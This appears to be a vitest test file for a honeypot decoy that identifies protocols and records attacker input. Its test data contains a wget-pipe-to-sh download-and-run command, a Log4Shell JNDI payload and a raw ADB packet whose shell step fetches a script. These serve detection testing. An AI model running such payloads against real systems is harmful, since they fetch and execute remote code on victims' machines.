import { Buffer } from 'node:buffer';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DecoyContext, DecoyOutput } from '../../core/decoy.ts';
import { createPersona } from '../../personas/index.ts';
import { any } from './any.ts';

const persona = createPersona('ubuntu-web', 'any test', { now: 0 });

function contextOf(transport: 'tcp' | 'udp'): DecoyContext {
  return {
    persona,
    source: '198.51.100.7',
    sourcePort: 40_000,
    destination: '203.0.113.5',
    destinationPort: 5555,
    transport,
    tls: false,
    session: 'session',
    now: () => 0,
    randomBytes: (count) => new Uint8Array(count),
    countAttempt: () => 1,
  };
}

function talk(pieces: readonly Uint8Array[], transport: 'tcp' | 'udp' = 'tcp'): DecoyOutput[] {
  const session = any.open(contextOf(transport));
  return [...pieces.flatMap((piece) => [...session.receive(piece)]), ...(session.end?.() ?? [])];
}

const latin1 = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const namesOf = (outputs: readonly DecoyOutput[]): string[] =>
  outputs.flatMap((output) => (output.do === 'know' ? [output.protocol ?? ''] : []));
const exploitsOf = (outputs: readonly DecoyOutput[]): string[] =>
  outputs.flatMap((output) =>
    output.do === 'saw' && output.fact.kind === 'exploit' ? [output.fact.name] : [],
  );

describe('the any decoy', () => {
  it('names the protocol once', () => {
    expect(namesOf(talk([latin1('GET / HTTP/1.1\r\nHost: x\r\n\r\n')]))).toEqual(['http']);
    expect(namesOf(talk([latin1('\x05\x01\x00')]))).toEqual(['socks5']);
    expect(namesOf(talk([latin1('\x9a\x03zz')]))).toEqual(['unknown']);
    expect(namesOf(talk([]))).toEqual([]);
  });

  it('records a shell command with its addresses', () => {
    const outputs = talk([latin1('./wget http://203.0.113.66/tpnew -O- | sh\r\n')]);
    expect(outputs).toContainEqual({
      do: 'saw',
      fact: {
        kind: 'command',
        service: 'any',
        input: './wget http://203.0.113.66/tpnew -O- | sh',
        urls: ['http://203.0.113.66/tpnew'],
      },
    });
  });

  it('recognises attacks that need no protocol of their own', () => {
    expect(exploitsOf(talk([latin1('x ${jndi:ldap://203.0.113.9/a} y\n')]))).toEqual(['log4shell']);
    expect(exploitsOf(talk([latin1('JDWP-Handshake')]))).toEqual(['jdwp-handshake']);
    const adb = `CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x02\0\0\0\0\0\0\0\xf2\x17\x4a\0\0\0\xb0\xaf\xba\xb1shell:cd /data/local/tmp; wget http://203.0.113.6/w.sh\0`;
    expect(exploitsOf(talk([latin1(adb)]))).toEqual(['adb-shell']);
    expect(exploitsOf(talk([latin1('GET / HTTP/1.0\r\n\r\n')]))).toEqual([]);
  });

  it('says the same however the bytes are split', () => {
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 200 }),
      fc
        .constantFrom(
          'JDWP-Handshake',
          'GET / HTTP/1.1\r\n\r\n',
          '\x05\x01\x00',
          'cd /tmp; wget http://a/b\n${jndi:ldap://x}',
        )
        .map(latin1),
    );
    fc.assert(
      fc.property(bytes, fc.array(fc.nat(200), { maxLength: 8 }), (whole, cuts) => {
        const points = [...new Set([0, ...cuts.map((cut) => cut % (whole.length + 1)), whole.length])].sort(
          (a, b) => a - b,
        );
        const pieces = points.slice(1).map((point, index) => whole.subarray(points[index], point));
        expect(talk(pieces)).toEqual(talk([whole]));
      }),
      { numRuns: 500 },
    );
  });

  it('never answers a datagram with more than it brought', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), (bytes) => {
        const sent = talk([bytes], 'udp').reduce(
          (sum, output) => sum + (output.do === 'reply' ? output.bytes.length : 0),
          0,
        );
        expect(sent).toBeLessThanOrEqual(bytes.length);
      }),
    );
  });
});
